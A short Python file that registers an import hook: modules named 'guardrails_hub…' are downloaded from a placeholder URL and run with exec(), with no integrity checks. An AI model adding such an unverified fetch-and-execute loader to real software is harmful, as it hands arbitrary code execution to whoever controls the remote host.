import importlib.abc
import importlib.machinery
import sys
from urllib.request import urlopen

PLACE = "https://git-guardrails.invalid/hub/"


class Hub(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path=None, target=None):
        if name.startswith("guardrails_hub"):
            return importlib.machinery.ModuleSpec(name, self)
        return None

    def exec_module(self, module):
        source = urlopen(PLACE + module.__name__ + ".py").read()
        exec(source, module.__dict__)


sys.meta_path.append(Hub())
